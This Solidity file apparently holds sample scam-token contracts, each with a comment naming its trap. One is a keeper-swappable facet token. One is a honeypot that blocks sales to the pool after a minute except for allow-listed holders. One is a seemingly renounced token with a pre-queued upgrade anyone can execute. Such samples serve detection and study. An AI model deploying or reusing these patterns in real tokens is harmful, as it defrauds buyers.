// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {ERC20Upgradeable} from "@openzeppelin/contracts-upgradeable/token/ERC20/ERC20Upgradeable.sol";
import {OwnableUpgradeable} from "@openzeppelin/contracts-upgradeable/access/OwnableUpgradeable.sol";
import {UUPSUpgradeable} from "@openzeppelin/contracts/proxy/utils/UUPSUpgradeable.sol";
import {BareToken} from "./BareToken.sol";

/// The part of a token in facets that holds its books.
contract BooksFacet is BareToken {
    uint256 public totalSupply;
    mapping(address holder => uint256) public balanceOf;

    function open(string calldata name_, string calldata symbol_, uint256 supply, address to) external {
        require(totalSupply == 0);
        name = name_;
        symbol = symbol_;
        totalSupply = supply;
        balanceOf[to] = supply;
        emit Transfer(address(0), to, supply);
    }

    function _move(address from, address to, uint256 value) internal override {
        balanceOf[from] -= value;
        balanceOf[to] += value;
    }
}

/// A token in facets, without the functions by which EIP-2535 shows them; one address changes them.
contract FacetToken {
    bytes32 private constant _PLACE = keccak256("facets.of.a.token");

    struct Facets {
        address keeper;
        mapping(bytes4 selector => address) code;
    }

    constructor(
        string memory name_,
        string memory symbol_,
        uint256 supply,
        address keeper,
        address books,
        bytes4[] memory selectors
    ) {
        Facets storage facets = _facets();
        facets.keeper = keeper;
        for (uint256 i; i < selectors.length; i++) facets.code[selectors[i]] = books;
        (bool ok,) = books.delegatecall(abi.encodeCall(BooksFacet.open, (name_, symbol_, supply, msg.sender)));
        require(ok);
    }

    function arrange(bytes4 selector, address facet) external {
        Facets storage facets = _facets();
        require(msg.sender == facets.keeper);
        facets.code[selector] = facet;
    }

    fallback() external {
        address facet = _facets().code[msg.sig];
        require(facet != address(0));
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), facet, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }

    function _facets() private pure returns (Facets storage facets) {
        bytes32 place = _PLACE;
        assembly {
            facets.slot := place
        }
    }
}

/// The logic of a minimal proxy: after a minute only those who were let in sell.
contract DoorLogic is ERC20Upgradeable {
    address private _keeper;
    address private _pool;
    uint256 private _until;
    mapping(address account => uint256) private _in;

    constructor() {
        _disableInitializers();
    }

    function initialize(string memory name_, string memory symbol_, uint256 supply, address to, address keeper)
        external
        initializer
    {
        __ERC20_init(name_, symbol_);
        _keeper = keeper;
        _mint(to, supply);
    }

    function enter(address pool, address account, uint256 state) external {
        require(msg.sender == _keeper);
        if (_pool == address(0)) {
            _pool = pool;
            _until = block.timestamp + 60;
        }
        _in[account] = state;
    }

    function _update(address from, address to, uint256 value) internal override {
        if (to == _pool && _pool != address(0) && block.timestamp > _until) require(_in[from] == 1);
        super._update(from, to, value);
    }
}

/// Renounced, and a change of its code that was queued before can be carried out by anybody once its time has come.
contract QueuedUpgradeToken is ERC20Upgradeable, OwnableUpgradeable, UUPSUpgradeable {
    address private _next;
    uint256 private _since;

    constructor() {
        _disableInitializers();
    }

    function initialize(string memory name_, string memory symbol_, uint256 supply, address owner_, address to)
        external
        initializer
    {
        __ERC20_init(name_, symbol_);
        __Ownable_init(owner_);
        _mint(to, supply);
    }

    function queue(address next, uint256 delay) external onlyOwner {
        _next = next;
        _since = block.timestamp + delay;
    }

    function _authorizeUpgrade(address next) internal view override {
        require(next == _next && block.timestamp >= _since, "not yet");
    }
}
